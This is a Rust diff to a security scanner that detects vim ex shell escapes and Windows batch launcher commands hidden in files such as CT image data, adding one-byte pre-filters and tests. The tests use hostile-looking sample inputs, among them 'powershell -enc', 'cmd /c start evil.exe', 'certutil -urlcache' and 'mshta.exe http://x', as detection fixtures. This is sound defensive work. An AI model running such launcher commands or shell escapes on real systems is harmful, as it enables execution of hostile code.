@@ -202,18 +202,14 @@ pub fn find_ex_command(bytes: &[u8]) -> Option<Command> {
     let wrapper = |name: &[u8]| listed(&WRAPPERS, name);
     let mut modelled = 0usize;
     for bang in memchr::memchr_iter(b'!', bytes) {
-        let before = &bytes[..bang];
-        let lead = before
-            .iter()
-            .rev()
-            .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
-            .count();
-        let line_start = bang - lead;
-        let at_line_start = line_start == 0 || bytes[line_start - 1] == b'\n';
-        let after_colon = before.last() == Some(&b':');
-        if !at_line_start && !after_colon && !ex_command_before(before) {
+        // Pixel data holds a `!` every ~70 bytes; the byte before most of them can end
+        // none of the forms below, and is turned away in one look-up.
+        if bang > 0 && !EX_BEFORE_BANG[usize::from(bytes[bang - 1])] {
             continue;
         }
+        let Some(at_line_start) = ex_escape(bytes, bang) else {
+            continue;
+        };
         let rest = &bytes[bang + 1..];
         let line = &rest[..memchr::memchr(b'\n', rest).unwrap_or(rest.len())];
         if !at_line_start {
@@ -357,6 +353,56 @@ const EX_BANG_COMMANDS: [&[u8]; 9] = [
     b"r", b"read", b"w", b"write", b"e", b"sil", b"silent", b"sil!", b"silent!",
 ];
 
+/// Whether the `!` at `bang` starts a shell escape that ex runs: `Some(true)` at a line's
+/// start (after blanks and `:`), `Some(false)` after a `:` or an ex command
+/// ([`ex_command_before`]), `None` for a `!` that is no escape.
+fn ex_escape(bytes: &[u8], bang: usize) -> Option<bool> {
+    #[cfg(test)]
+    tests::LOOKED_AT.with(|n| n.set(n.get() + 1));
+    let before = &bytes[..bang];
+    let lead = before
+        .iter()
+        .rev()
+        .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
+        .count();
+    let line_start = bang - lead;
+    let at_line_start = line_start == 0 || bytes[line_start - 1] == b'\n';
+    let after_colon = before.last() == Some(&b':');
+    (at_line_start || after_colon || ex_command_before(before)).then_some(at_line_start)
+}
+
+/// The bytes that can come just before a `!` that [`find_ex_command`] looks at: what the
+/// walks back from it read (blanks and `:` before an escape at a line start or after a
+/// `:`, a line end, the letters and `!` of an ex command, a range's characters, the `|`
+/// that ends the previous command). Any other byte stops every walk at once: no escape.
+const EX_BEFORE_BANG: [bool; 256] = {
+    let mut table = [false; 256];
+    let mut b = 0;
+    while b < 256 {
+        let c = b as u8;
+        table[b] = c.is_ascii_lowercase()
+            || c.is_ascii_digit()
+            || matches!(
+                c,
+                b' ' | b'\t'
+                    | b':'
+                    | b'\n'
+                    | b'!'
+                    | b'|'
+                    | b','
+                    | b';'
+                    | b'.'
+                    | b'$'
+                    | b'%'
+                    | b'+'
+                    | b'-'
+                    | b'\''
+            );
+        b += 1;
+    }
+    table
+};
+
 /// Whether the text before a `!` makes it a shell escape of the ex command it ends
 /// (review s6-r10: vim ran `r !cmd`, `w !cmd`, `silent !cmd`, `1,1!cmd`, `%!cmd` and
 /// `set nocp|!cmd`, and only a bare `!` was looked for). Read backwards from the `!`:
@@ -486,12 +532,43 @@ fn shell_command(bytes: &[u8], at: usize) -> Command {
 /// that fails, and cmd.exe goes on).
 pub fn find_batch_command(bytes: &[u8]) -> Option<Command> {
     memchr::memchr3_iter(b'\n', b'&', b'|', bytes)
+        // Pixel data holds a separator every ~60 bytes; most are followed by a byte no
+        // command starts with, turned away here in one look-up.
+        .filter(|&separator| {
+            bytes
+                .get(separator + 1)
+                .is_some_and(|&b| BATCH_COMMAND_START[usize::from(b)])
+        })
         .find_map(|separator| batch_command_at(bytes, separator + 1))
 }
+
+/// The bytes a command [`batch_command_at`] can find starts with: what cmd.exe skips
+/// before a program ([`program_start`]: blanks, `@`, `;`, `,`, `=`, `(`, the `c`, `i` and
+/// `f` of `call`, `if` and `for`), the first letter of a launcher in [`BATCH`], and the
+/// caret and quote cmd.exe removes from a program's name, in both cases.
+const BATCH_COMMAND_START: [bool; 256] = {
+    let mut table = [false; 256];
+    let starts: &[u8] = b" \t\r@;,=(^\"cifCIF";
+    let mut i = 0;
+    while i < starts.len() {
+        table[starts[i] as usize] = true;
+        i += 1;
+    }
+    let mut i = 0;
+    while i < BATCH.len() {
+        let first = BATCH[i][0];
+        table[first.to_ascii_lowercase() as usize] = true;
+        table[first.to_ascii_uppercase() as usize] = true;
+        i += 1;
+    }
+    table
+};
 
 /// The command that starts at `at` (after a line's start or an operator), if its program
 /// is a Windows launcher.
 fn batch_command_at(bytes: &[u8], at: usize) -> Option<Command> {
+    #[cfg(test)]
+    tests::LOOKED_AT.with(|n| n.set(n.get() + 1));
     let line = bytes.get(at..)?;
     let skip = program_start(line);
     {
@@ -734,6 +811,103 @@ fn line_excerpt(bytes: &[u8], at: usize) -> String {
 
 #[cfg(test)]
 mod tests {
+    thread_local! {
+        /// Candidates (a `!` for ex, a separator for batch) looked at past the one-byte
+        /// filters, on this thread.
+        pub(super) static LOOKED_AT: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
+    }
+
+    /// 16-bit pixel data as a CT scanner writes it (values near the air and soft tissue
+    /// numbers, noise in the low byte): a `!` and a separator every few dozen bytes.
+    fn ct_pixels() -> Vec<u8> {
+        let mut state = 0x2545_f491_4f6c_dd1du64;
+        let mut out = Vec::with_capacity(1 << 20);
+        while out.len() < 1 << 20 {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            let value = 900 + (state % 1400) as u16;
+            out.extend_from_slice(&value.to_le_bytes());
+        }
+        out
+    }
+
+    /// Perf on bench/scan's `images` tree: the ex and batch searches were a quarter of
+    /// the scan's CPU, most of it on candidates a glance at one byte turns away. Those
+    /// are no longer looked at (each was a walk back, or a call and a parse).
+    #[test]
+    fn most_candidates_in_pixel_data_are_turned_away_by_one_byte() {
+        let pixels = ct_pixels();
+        let bangs = memchr::memchr_iter(b'!', &pixels).count();
+        let separators = memchr::memchr3_iter(b'\n', b'&', b'|', &pixels).count();
+        assert!(bangs > 1000 && separators > 1000, "{bangs} {separators}");
+        LOOKED_AT.with(|n| n.set(0));
+        assert!(find_ex_command(&pixels).is_none());
+        let ex = LOOKED_AT.with(|n| n.get());
+        LOOKED_AT.with(|n| n.set(0));
+        assert!(find_batch_command(&pixels).is_none());
+        let batch = LOOKED_AT.with(|n| n.get());
+        assert!(ex * 3 < bangs, "{ex} of {bangs} bangs looked at");
+        assert!(
+            batch * 3 < separators,
+            "{batch} of {separators} separators looked at"
+        );
+    }
+
+    /// The filters turn away only what the full checks reject: every byte outside them,
+    /// before a `!` or after a separator, in front of escapes and command lines that are
+    /// found with a byte inside them.
+    #[test]
+    fn the_one_byte_filters_turn_away_only_what_finds_nothing() {
+        let escapes: [&[u8]; 6] = [
+            b"!sh -c id\n",
+            b"r !sh -c id\n",
+            b"1,2!sh -c id\n",
+            b"set nocp|!sh -c id\n",
+            b":!sh -c id\n",
+            b"w !sh -c id\n",
+        ];
+        let lines: [&[u8]; 6] = [
+            b"powershell -enc AAAA\r\n",
+            b"@ call cmd /c start evil.exe\r\n",
+            b"if exist x powershell -c x\r\n",
+            b"for %%a in (1) do certutil -urlcache\r\n",
+            b"p^ower^shell -c x\r\n",
+            b"\"mshta.exe\" http://x\r\n",
+        ];
+        let prefixes: [&[u8]; 6] = [b"", b"\n", b"x\n", b"x|", b"x\n1,2", b"x\nr "];
+        for b in 0..=255u8 {
+            // The byte just before a `!`, after every kind of text that can precede it.
+            for prefix in prefixes {
+                let text = [prefix, &[b], b"!sh"].concat();
+                if ex_escape(&text, prefix.len() + 1).is_some() {
+                    assert!(EX_BEFORE_BANG[usize::from(b)], "{b:#x} after {prefix:?}");
+                }
+            }
+            for line in lines {
+                let text = [&b"x\n"[..], &[b], line].concat();
+                if batch_command_at(&text, 2).is_some() {
+                    assert!(
+                        BATCH_COMMAND_START[usize::from(b)],
+                        "{b:#x} before {line:?}"
+                    );
+                }
+            }
+        }
+        // And each escape and line is found (the loops above were not empty).
+        for escape in escapes {
+            assert!(
+                find_ex_command(&[&b"x\n"[..], escape].concat()).is_some(),
+                "{escape:?}"
+            );
+        }
+        for line in lines {
+            assert!(
+                find_batch_command(&[&b"x\n"[..], line].concat()).is_some(),
+                "{line:?}"
+            );
+        }
+    }
     use super::*;
 
     /// LONGEST_NAME lets a long word skip the name lists: no name in them may be longer.
